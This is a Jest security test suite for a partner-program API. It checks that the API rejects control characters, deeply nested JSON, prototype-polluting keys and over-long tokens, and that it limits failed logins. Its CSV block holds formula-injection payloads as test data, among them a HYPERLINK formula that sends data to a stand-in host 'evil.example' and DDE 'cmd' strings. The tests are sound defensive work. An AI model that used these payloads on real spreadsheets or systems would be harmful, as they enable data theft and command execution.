/** @jest-environment ./test/store/pglite-environment.ts */
/**
 * What an OpenAPI fuzzer, an attacker and a crash found (issue #15), without a Temporal server: control characters
 * and absurdly deep JSON answer 400 naming the field, never 5xx; an Idempotency-Key is never left claimed when the
 * store refuses; built-in property names are unknown evidence keys like any other.
 */
import type { Connection } from '@temporalio/client';
import { SignJWT } from 'jose';
import request from 'supertest';
import { mintToken } from '../../src/api/auth';
import type { Store } from '../../src/store';
import { openTestStore } from '../support/store';
import { createOfflineApp, SECRET, type ApiHarness } from './harness';

let store: Store;
let connection: Connection;
let app: Awaited<ReturnType<typeof createOfflineApp>>['app'];
let auth: ApiHarness['auth'];
const extraConnections: Connection[] = [];

const registration = {
  id: 'hard',
  name: 'Hard Cloud',
  track: 'consulting',
  tier: 'registered',
  renewalDate: '12-15',
  country: 'US',
  allianceLeadId: 'lead@hard',
  partnerManagerIds: ['pm-hard'],
} as const;

const reference = {
  id: 'ref-1',
  customer: 'Customer One',
  public: true,
  source: 'ace-opportunity',
  designatedOn: '2019-03-01',
  status: 'approved',
};

beforeAll(async () => {
  store = await openTestStore();
  ({ app, connection, auth } = await createOfflineApp(store));
  await store.registerPartner({ ...registration, partnerManagerIds: ['pm-hard'], id: 'known', feeAccountId: null });
});
afterAll(async () => {
  await new Promise((r) => setTimeout(r, 3_500));
  for (const c of [connection, ...extraConnections]) await c?.close().catch(() => undefined);
  await store?.close();
});

function expectInvalid(res: request.Response, paths: string[]): void {
  expect({ status: res.status, body: res.body as unknown }).toMatchObject({ status: 400 });
  expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
  const found = (res.body.errors as { path: string; message: string }[]).map((e) => e.path);
  expect(found).toEqual(expect.arrayContaining(paths));
}

describe('control characters answer 400 naming the field, and nothing reaches the store', () => {
  test('a NUL in the registration name or allianceLeadId', async () => {
    const admin = await auth('program-admin');
    for (const field of ['name', 'allianceLeadId'] as const) {
      const res = await request(app)
        .post('/v1/partners')
        .set('Authorization', admin)
        .send({ ...registration, id: `nul-${field.toLowerCase()}`, [field]: 'Hard\u0000Cloud' });
      expectInvalid(res, [`body.${field}`]);
      expect(res.body.errors[0].message).toMatch(/U\+0000/);
      expect(await store.getPartner(`nul-${field.toLowerCase()}`)).toBeUndefined();
    }
  });

  test('with an Idempotency-Key the refusal is the key’s answer: the retry replays the 400, never 409', async () => {
    const admin = await auth('program-admin');
    const body = { ...registration, id: 'nul-idem', name: 'Nul\u0000' };
    const send = () =>
      request(app).post('/v1/partners').set('Authorization', admin).set('Idempotency-Key', 'nul-2').send(body);
    expectInvalid(await send(), ['body.name']);
    const retry = await send();
    expectInvalid(retry, ['body.name']);
  });

  test('a NUL in an evidence item, in an unknown key, and other C0 characters', async () => {
    const feed = await auth('evidence-feed');
    const post = (body: object) =>
      request(app).post('/v1/partners/known/evidence/references').set('Authorization', feed).send(body);
    expectInvalid(await post({ ...reference, customer: 'Cust\u0000omer' }), ['body.customer']);
    expectInvalid(await post({ ...reference, customer: 'Bell\u0007' }), ['body.customer']);
    expectInvalid(await post({ ...reference, 'x\u0000y': 1 }), ['body."x\\u0000y"']);
    expectInvalid(await post({ ...reference, note: { deep: ['a\u001bb'] } }), ['body.note.deep[0]']);
    const surrogate = await post({ ...reference, customer: 'a\ud800b' });
    expectInvalid(surrogate, ['body.customer']);
    expect(surrogate.body.errors[0].message).toMatch(/unpaired surrogate U\+D800/);
    expect(await store.getEvidence('known')).toBeUndefined();
  });

  test('a NUL in a CSV cell names its line', async () => {
    const res = await request(app)
      .post('/v1/partners/known/evidence/import?kind=references')
      .set('Authorization', await auth('evidence-feed'))
      .set('Content-Type', 'text/csv')
      .send(
        'id,customer,public,source,designatedOn,status\nref-1,Cust\u0000omer,true,ace-opportunity,2019-03-01,approved\n',
      );
    expectInvalid(res, ['body line 2']);
    expect(await store.getEvidence('known')).toBeUndefined();
  });

  test('a NUL in a query parameter or a path segment', async () => {
    const admin = await auth('program-admin');
    expectInvalid(await request(app).get('/v1/partners?cursor=a%00b').set('Authorization', admin), ['query.cursor']);
    const res = await request(app)
      .delete('/v1/partners/known/evidence/references/a%00b')
      .set('Authorization', await auth('evidence-feed'));
    expectInvalid(res, ['path.key']);
  });
});

describe('deep JSON answers 400 before anything recurses', () => {
  for (const depth of [10_000, 100_000]) {
    test(`${String(depth)} nested objects under an unknown key, with an Idempotency-Key`, async () => {
      const deep = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
      const body = JSON.stringify({ ...reference, id: `deep-${String(depth)}` }).replace(/}$/, `,"extra":${deep}}`);
      const res = await request(app)
        .post('/v1/partners/known/evidence/references')
        .set('Authorization', await auth('evidence-feed'))
        .set('Idempotency-Key', `deep-${String(depth)}`)
        .set('Content-Type', 'application/json')
        .send(body);
      expectInvalid(res, []);
      expect(res.body.errors[0].message).toMatch(/nested deeper than 32 levels/);
    });
  }
});

describe('an Idempotency-Key is released whenever its answer cannot be recorded', () => {
  test('the store refuses to settle the key: the retry runs again instead of hearing 409', async () => {
    let failSettle = true;
    const flaky: Store = {
      ...store,
      idempotency: {
        ...store.idempotency,
        settle: async (...args: Parameters<Store['idempotency']['settle']>) => {
          if (failSettle) {
            failSettle = false;
            throw new Error('invalid byte sequence for encoding "UTF8": 0x00');
          }
          return store.idempotency.settle(...args);
        },
      },
    };
    const built = await createOfflineApp(flaky);
    extraConnections.push(built.connection);
    const feed = await auth('evidence-feed');
    const add = () =>
      request(built.app)
        .post('/v1/partners/known/evidence/references')
        .set('Authorization', feed)
        .set('Idempotency-Key', 'settle-fails')
        .send({ ...reference, extra: 1 });
    const first = await add();
    expect(first.status).toBeGreaterThanOrEqual(500);
    const retry = await add();
    expectInvalid(retry, ['body.extra']);
  });
});

describe('unknown evidence keys are own properties, never built-in names', () => {
  test.each(['constructor', 'toString', '__proto__', 'hasOwnProperty'])('`%s` is refused by name', async (key) => {
    const body = `${JSON.stringify(reference).slice(0, -1)},${JSON.stringify(key)}:{}}`;
    const res = await request(app)
      .post('/v1/partners/known/evidence/references')
      .set('Authorization', await auth('evidence-feed'))
      .set('Content-Type', 'application/json')
      .send(body);
    expectInvalid(res, [`body.${key}`]);
    expect(res.body.detail).toMatch(new RegExp(`unknown field.*${key}`));
  });
});

describe('tokens: failed attempts are limited per address, lifetimes are bounded, alliance leads are the registered one', () => {
  const sign = (claims: { iat?: number; exp: number }) => {
    let jwt = new SignJWT({ role: 'program-admin' })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setSubject('admin')
      .setIssuer('apn-tier-engine')
      .setAudience('apn-api')
      .setExpirationTime(claims.exp);
    if (claims.iat !== undefined) jwt = jwt.setIssuedAt(claims.iat);
    return jwt.sign(new TextEncoder().encode(SECRET));
  };
  const now = () => Math.floor(Date.now() / 1000);

  test('after AUTH_FAILURES_PER_MINUTE bad tokens the address hears 429, even with a good token', async () => {
    const built = await createOfflineApp(store, { authFailuresPerMinute: 5 });
    extraConnections.push(built.connection);
    const good = await auth('program-admin');
    expect((await request(built.app).get('/v1/partners').set('Authorization', good)).status).toBe(200);
    for (let i = 0; i < 5; i++) {
      const res = await request(built.app)
        .get('/v1/partners')
        .set('Authorization', `Bearer guess-${String(i)}`);
      expect(res.status).toBe(401);
    }
    const limited = await request(built.app).get('/v1/partners').set('Authorization', 'Bearer guess-6');
    expect(limited.status).toBe(429);
    expect(limited.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect((await request(built.app).get('/v1/partners').set('Authorization', good)).status).toBe(429);
  });

  test('good requests in flight from one address are never counted as failures, however many', async () => {
    const built = await createOfflineApp(store, { authFailuresPerMinute: 5 });
    extraConnections.push(built.connection);
    const good = await auth('program-admin');
    const answers = await Promise.all(
      Array.from({ length: 30 }, () => request(built.app).get('/v1/partners').set('Authorization', good)),
    );
    expect(answers.map((r) => r.status)).toEqual(answers.map(() => 200));
    // Failures still count, and once past the limit the address waits, told for how long.
    for (let i = 0; i < 5; i++) {
      expect((await request(built.app).get('/v1/partners').set('Authorization', `Bearer bad-${i}`)).status).toBe(401);
    }
    const limited = await request(built.app).get('/v1/partners').set('Authorization', good);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
  });

  test('a token without `iat` is refused', async () => {
    const res = await request(app)
      .get('/v1/partners')
      .set('Authorization', `Bearer ${await sign({ exp: now() + 600 })}`);
    expect(res.status).toBe(401);
    expect(res.body.detail).toMatch(/missing claim `iat`/);
  });

  test('a token valid until 2100 is refused; a 12-hour token (as apn token and npm start mint) passes', async () => {
    const forever = await sign({ iat: now(), exp: Date.UTC(2100, 0, 1) / 1000 });
    const res = await request(app).get('/v1/partners').set('Authorization', `Bearer ${forever}`);
    expect(res.status).toBe(401);
    expect(res.body.detail).toMatch(/token lifetime .* exceeds the maximum of 1d/);
    const twelve = await sign({ iat: now(), exp: now() + 12 * 3600 });
    expect((await request(app).get('/v1/partners').set('Authorization', `Bearer ${twelve}`)).status).toBe(200);
    await expect(
      mintToken({
        secret: SECRET,
        role: 'program-admin',
        sub: 'a',
        expiresIn: '30d',
        issuer: 'apn-tier-engine',
        audience: 'apn-api',
      }),
    ).rejects.toThrow(/exceeds the maximum/);
  });

  test('an alliance-lead token must name the partner’s registered alliance lead', async () => {
    const stranger = await auth('alliance-lead', 'someone-else', 'known');
    const res = await request(app).get('/v1/partners/known/audit').set('Authorization', stranger);
    expect(res.status).toBe(403);
    expect(res.body.detail).toMatch(/not the registered alliance lead/);
    const lead = await auth('alliance-lead', registration.allianceLeadId, 'known');
    expect((await request(app).get('/v1/partners/known/audit').set('Authorization', lead)).status).toBe(200);
  });

  test('an alliance-team token must name one of the partner’s registered team, where the registration names one', async () => {
    const admin = await auth('program-admin');
    const registered = await request(app)
      .post('/v1/partners')
      .set('Authorization', admin)
      .send({ ...registration, id: 'teamed', allianceTeamIds: ['team-b', 'team-a', 'team-a'] });
    // Temporal is down here: the registration is refused and taken back, so the store is given the partner directly.
    expect(registered.status).toBe(503);
    await store.registerPartner({
      ...registration,
      id: 'teamed',
      feeAccountId: null,
      partnerManagerIds: ['pm-hard'],
      allianceTeamIds: ['team-b', 'team-a', 'team-a'],
    });
    const read = async (sub: string, partnerId: string) =>
      request(app)
        .get(`/v1/partners/${partnerId}/audit`)
        .set('Authorization', await auth('alliance-team', sub, partnerId));
    const stranger = await read('someone-else', 'teamed');
    expect(stranger.status).toBe(403);
    expect(stranger.body.detail).toMatch(/'someone-else' is not on the registered alliance team of partner 'teamed'/);
    expect((await read('team-a', 'teamed')).status).toBe(200);
    expect((await read('team-b', 'teamed')).status).toBe(200);
    // The alliance lead is not a team member by its name alone.
    expect((await read(registration.allianceLeadId, 'teamed')).status).toBe(403);
    // A registration naming no team (as before the field existed) takes any alliance-team token of the partner.
    expect((await read('anyone-on-the-team', 'known')).status).toBe(200);
    expect(await store.getPartner('teamed')).toMatchObject({ allianceTeamIds: ['team-a', 'team-b'] });
    expect(await store.getPartner('known')).toMatchObject({ allianceTeamIds: null });
  });
});

describe('CSV formula cells are refused with a row error, never stored', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '='],
    ["@SUM(1+1)*cmd|' /C calc'!A0", '@'],
    ["+cmd|' /C calc'!A0", '+'],
    ["-2+3+cmd|' /C calc'!A0", '-'],
  ])('%s', async (cell, first) => {
    const csv = `id,customer,public,source,designatedOn,status\nref-1,"${cell.replace(/"/g, '""')}",true,ace-opportunity,2019-03-01,approved\n`;
    const res = await request(app)
      .post('/v1/partners/known/evidence/import?kind=references')
      .set('Authorization', await auth('evidence-feed'))
      .set('Content-Type', 'text/csv')
      .send(csv);
    expectInvalid(res, ['row 2 › customer']);
    expect(res.body.errors[0].message).toContain(`starts with '${first}', which a spreadsheet runs as a formula`);
    expect(await store.getEvidence('known')).toBeUndefined();
  });
});
